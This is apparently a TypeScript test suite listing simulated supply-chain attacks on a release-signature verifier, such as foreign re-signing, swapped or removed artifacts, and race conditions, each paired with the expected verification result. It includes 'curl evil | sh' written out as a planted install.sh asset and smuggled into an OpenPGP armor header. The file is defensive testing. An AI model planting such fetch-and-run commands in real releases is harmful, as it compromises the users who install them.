import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { KeyObject } from 'node:crypto'
import { PACKET, packet } from '../../../src/signature/openpgp/packets.ts'
import { testKey } from '../keys.ts'
import { filesIn } from '../outcome.ts'
import { certificateFile } from '../signature-files.ts'
import { pemOf, sha256, signatureOf } from '../signed-files.ts'
import { dearmored } from '../stock-verifiers.ts'
import { startWorld } from '../world.ts'
import type { World } from '../world.ts'
import { APP, FILES, assertHolds, onRelease, put, signedWorld, take, upon, verifyAll } from './stage.ts'
import { change } from './change.ts'
import type { Attack } from './stage.ts'

// What somebody can do who may write release assets: another job with contents: write, a stolen token, a maintainer.

const TRUST = { 'public-key-fingerprint': 'any', 'trusted-public-key': 'keys/release.pem' }

const foreignKey = (): Promise<KeyObject> => testKey('RSA_2048', 11)

/** The OpenPGP certificate of the key that signed. */
const ownCertificate = async (): Promise<Uint8Array> => certificateFile(await testKey('RSA_2048', 0))

/** Signs everything on the release again, as if the foreign key were the signer's. */
async function signAgain(world: World, app = 'a trojan\n'): Promise<void> {
  const key = await foreignKey()
  put(world, 'app.tgz', app)
  const lists = ['app.tgz', 'tool.zip', 'release-binding.json'].map(
    name => `${sha256(world.github.asset(world.release.id, name).content?.bytes() ?? '')}  ${name}\n`
  )
  put(world, 'SHA256SUMS', lists.join(''))
  for (const name of ['app.tgz', 'tool.zip', 'SHA256SUMS'])
    put(
      world,
      `${name}.sig`,
      signatureOf(key, world.github.asset(world.release.id, name).content?.bytes() ?? '')
    )
}

const keptKey = (world: World) => ({ files: { 'keys/release.pem': pemOf(world.key.publicKey) } })

const TOOL_SIG = 'tool.zip.sig'

export const RELEASE_ATTACKS: readonly Attack[] = [
  change(
    'replaces the public key by their own and signs all assets again with it',
    'NO_TRUSTED_KEY',
    async world => {
      await signAgain(world)
      put(world, 'signing-public-key.pem', pemOf(await foreignKey()))
    }
  ),
  onRelease(
    {
      who: 'release',
      does: 'the same, with the key in the checkout as the anchor',
      given: 'trusted-public-key, closed world',
      answer: 'VERIFICATION_FAILED: key-not-trusted, signature-missing'
    },
    async () => {
      const world = await signedWorld()
      await signAgain(world)
      put(world, 'signing-public-key.pem', pemOf(await foreignKey()))
      return { world, inputs: TRUST, options: keptKey(world) }
    }
  ),
  change('replaces an artifact', 'VERIFICATION_FAILED: file-changed', world =>
    put(world, 'app.tgz', 'a trojan\n')
  ),
  change(
    'replaces an artifact that only the checksums file covers',
    'VERIFICATION_FAILED: checksums-mismatch',
    world => put(world, 'app.tgz', 'a trojan\n'),
    { signed: { strategy: 'checksums' } }
  ),
  change(
    'attaches a foreign SHA256SUMS, signed with their own key, that lists their artifact',
    'VERIFICATION_FAILED: signature-missing, wrong-key-or-damaged',
    async world => {
      await signAgain(world)
      for (const name of ['app.tgz.sig', TOOL_SIG]) take(world, name)
    }
  ),
  change(
    'writes the digest of their artifact into SHA256SUMS and keeps its signature',
    'VERIFICATION_FAILED: file-changed, signature-missing',
    world => {
      put(world, 'app.tgz', 'a trojan\n')
      put(
        world,
        'SHA256SUMS',
        take(world, 'SHA256SUMS').toString().replace(sha256(APP), sha256('a trojan\n'))
      )
    },
    { signed: { strategy: 'checksums' } }
  ),
  change('removes all signatures', 'VERIFICATION_FAILED: signature-missing', world => {
    for (const name of ['app.tgz.sig', TOOL_SIG, 'SHA256SUMS.sig']) take(world, name)
  }),
  change(
    'replaces a signature by an empty file, a web page and a damaged one',
    'VERIFICATION_FAILED: signature-missing, signature-unreadable, wrong-key-or-damaged',
    world => {
      put(world, 'app.tgz.sig', '')
      put(world, TOOL_SIG, '<!doctype html><title>Sign in</title>')
      const damaged = take(world, 'SHA256SUMS.sig')
      damaged[9] = (damaged[9] ?? 0) ^ 1
      put(world, 'SHA256SUMS.sig', damaged)
    }
  ),
  change('attaches a record that nobody signed', 'VERIFICATION_FAILED: not-in-checksums', world =>
    put(world, 'release-record.json', '{"type":"kms-sign-action/record/v1"}')
  ),
  change('attaches a signature of nothing', 'VERIFICATION_FAILED: asset-unverified', world =>
    put(world, 'gone.tgz.sig', Buffer.alloc(256, 1))
  ),
  change('attaches an extra file', 'VERIFICATION_FAILED: not-in-checksums', world =>
    put(world, 'install.sh', 'curl evil | sh\n')
  ),
  change(
    'attaches a script behind the PEM block of the trusted key',
    'VERIFICATION_FAILED: not-in-checksums',
    world => put(world, 'key.pem', `${pemOf(world.key.publicKey)}#!/bin/sh\n`)
  ),
  change(
    'attaches a script in the armor headers of the OpenPGP certificate of the trusted key',
    'VERIFICATION_FAILED: asset-unverified',
    async world => {
      const text = Buffer.from(await ownCertificate()).toString()
      put(world, 'install.sh', text.replace('\n', '\nComment: ; curl evil | sh; exit 0\n'))
    }
  ),
  change(
    'attaches an archive as a user id of the OpenPGP certificate of the trusted key, which the key did not sign',
    'VERIFICATION_FAILED: asset-unverified',
    async world => {
      const certificate = dearmored(await ownCertificate())
      put(world, 'tool.pyz', Buffer.concat([certificate, packet(PACKET.userId, Buffer.from('PK\x03\x04'))]))
    }
  ),
  change(
    'attaches a program in spaces behind the PEM block of the trusted key',
    'VERIFICATION_FAILED: asset-unverified',
    world => put(world, 'tool.ws', `${pemOf(world.key.publicKey)}${' \t\n'.repeat(99)}`)
  ),
  change('attaches a second public key of their own', 'VERIFICATION_FAILED: key-not-trusted', async world =>
    put(world, 'new-key.pem', pemOf(await foreignKey()))
  ),
  change(
    'attaches 20 keys, so that the real one is not among the 16 that are looked at',
    'NO_TRUSTED_KEY',
    async world => {
      const pem = take(world, 'signing-public-key.pem')
      for (let n = 0; n < 20; n += 1) put(world, `a${n}.pem`, pemOf(await foreignKey()))
      put(world, 'signing-public-key.pem', pem)
    }
  ),
  change(
    'attaches a file whose name an exempting line matches',
    'passes',
    world => put(world, 'evil.sbom.json', '{}'),
    {
      given: '"!*.sbom.json" in release-assets',
      inputs: { 'release-assets': '*\n!*.sbom.json' },
      instead: 'Log, summary and results list exempted assets as not verified; exempt by whole names'
    }
  ),
  change(
    'swaps the names of two artifacts, with their signatures',
    'VERIFICATION_FAILED: checksums-mismatch',
    swapNames
  ),
  change('swaps the names of two artifacts, with their signatures', 'passes', swapNames, {
    given: 'strategy: each',
    signed: { strategy: 'each' },
    instead: 'A signature of one file does not cover its name: sign with strategy: checksums or both'
  }),
  change(
    'renames an artifact and its signature',
    'VERIFICATION_FAILED: checksums-incomplete, not-in-checksums',
    world => {
      put(world, 'app-2.tgz', take(world, 'app.tgz'))
      take(world, 'app.tgz.sig')
    }
  ),
  change('removes an artifact with its signature', 'VERIFICATION_FAILED: checksums-incomplete', dropTool),
  change('removes an artifact with its signature', 'passes', dropTool, {
    given: 'strategy: each',
    signed: { strategy: 'each' },
    instead: 'Sign with strategy: checksums or both, or verify with digests'
  }),
  change(
    'removes the checksums file, its signature and the binding',
    'VERIFICATION_FAILED: binding-missing',
    dropSums,
    {
      given: 'require-binding: true',
      inputs: { 'require-binding': 'true' }
    }
  ),
  change('removes the checksums file, its signature and the binding', 'passes', dropSums, {
    given: 'strategy: both, nothing required',
    instead: 'The key still signed the artifacts; require-binding or checksums-file detects the removal'
  }),
  change('removes the checksums file, its signature and the binding', 'CHECKSUMS_UNUSABLE', dropSums, {
    given: 'checksums-file: SHA256SUMS',
    inputs: { 'checksums-file': 'SHA256SUMS' }
  }),
  change(
    'replaces an asset while it is verified, after it was read',
    'RELEASE_CHANGED: asset-unverified',
    world => {
      let listings = 0
      upon(
        world,
        ({ path }) => path.includes(`/releases/${world.release.id}/assets?`) && (listings += 1) === 2,
        () => put(world, 'app.tgz', 'a trojan\n')
      )
    },
    { given: 'output-directory', inputs: { 'output-directory': 'verified' }, isRace: true }
  ),
  change(
    'replaces the bytes of an asset between listing and download',
    'ASSET_WRONG',
    world => {
      const { id } = world.github.asset(world.release.id, 'app.tgz')
      upon(
        world,
        ({ path }) => path.endsWith(`/releases/assets/${id}`),
        () => {
          const made = world.github.createRelease({ tag: 'v0' })
          const { content } = world.github.addAsset(made, { name: 'x', content: 'THE APPLICATION\n' })
          world.github.asset(world.release.id, 'app.tgz').content = content
        }
      )
    },
    { isRace: true }
  ),
  change(
    'attaches a copy of a signed artifact, with its signature, under a name that differs in case',
    'ARTIFACT_NAMES_COLLIDE',
    world => {
      for (const suffix of ['', '.sig']) {
        const { content } = world.github.asset(world.release.id, `app.tgz${suffix}`)
        put(world, `APP.tgz${suffix}`, content?.bytes() ?? '')
      }
    },
    { given: 'output-directory', inputs: { 'output-directory': 'verified' } }
  ),
  {
    who: 'release',
    does: 'replaces an artifact after it was verified',
    given: 'output-directory',
    answer: 'passes',
    holds: 'The files in output-directory are the bytes that were verified',
    run: async () => {
      const world = await signedWorld()
      const result = await verifyAll(world, { 'output-directory': 'verified' })
      put(world, 'app.tgz', 'a trojan\n')
      assertHolds(
        readFileSync(join(result.workspace, 'verified/app.tgz'), 'utf8') === APP,
        'the verified bytes'
      )
      return result
    }
  },
  {
    who: 'release',
    does: 'replaces an artifact after it was verified',
    given: 'the deployment downloads again',
    answer: 'passes',
    instead: 'Deploy from output-directory, or make releases immutable',
    run: async () => {
      const world = await signedWorld()
      const result = await verifyAll(world)
      put(world, 'app.tgz', 'a trojan\n')
      assertHolds(
        filesIn(result.workspace).every(name => !name.startsWith('verified')),
        'nothing is kept'
      )
      return result
    }
  },
  {
    who: 'release',
    does: 'attached another artifact than the one that is signed',
    given: 'sign, upload: signatures',
    answer: 'ASSET_CONFLICT',
    run: async () => {
      const world = await startWorld()
      put(world, 'app.tgz', 'a trojan\n')
      return world.sign({}, { files: FILES })
    }
  },
  {
    who: 'release',
    does: 'adds an unsigned file to the draft before it is published',
    given: 'publish-release',
    answer: 'RELEASE_INCOMPLETE',
    run: async () => {
      const world = await startWorld()
      put(world, 'install.sh', 'curl evil | sh\n')
      const result = await world.sign({ upload: 'all', 'publish-release': 'true' }, { files: FILES })
      assertHolds(world.release.draft, 'the release is still a draft')
      return result
    }
  },
  onRelease(
    {
      who: 'release',
      does: 'renames a signed text that reads as a list to SHA256SUMS, and attaches what it lists',
      given: 'strategy: each, nothing required',
      answer: 'passes',
      instead:
        'Any signed text that reads as a list counts under that name: sign with strategy: checksums or both and require-binding, or sign no lists of other people as artifacts'
    },
    async () => {
      const list = `${sha256('a trojan\n')}  app.tgz\n`
      const world = await signedWorld({ strategy: 'each' }, {}, { ...FILES, 'dist/seen.txt': list })
      for (const suffix of ['', '.sig']) put(world, `SHA256SUMS${suffix}`, take(world, `seen.txt${suffix}`))
      take(world, 'app.tgz.sig')
      put(world, 'app.tgz', 'a trojan\n')
      return { world }
    }
  ),
  {
    who: 'release',
    does: 'adds a file at the moment of publishing',
    given: 'publish-release',
    answer: 'RELEASE_CHANGED',
    run: async () => {
      const world = await startWorld()
      upon(
        world,
        ({ method, path }) => method === 'PATCH' && /\/releases\/\d+$/.test(path),
        () => put(world, 'late.bin', 'never verified')
      )
      const result = await world.sign({ upload: 'all', 'publish-release': 'true' }, { files: FILES })
      assertHolds(world.release.draft, 'the release is a draft again')
      return result
    }
  }
]

function swapNames(world: World): void {
  for (const suffix of ['', '.sig']) {
    const [app, tool] = [take(world, `app.tgz${suffix}`), take(world, `tool.zip${suffix}`)]
    put(world, `app.tgz${suffix}`, tool)
    put(world, `tool.zip${suffix}`, app)
  }
}

function dropTool(world: World): void {
  for (const name of ['tool.zip', TOOL_SIG]) take(world, name)
}

function dropSums(world: World): void {
  for (const name of ['SHA256SUMS', 'SHA256SUMS.sig', 'release-binding.json']) take(world, name)
}
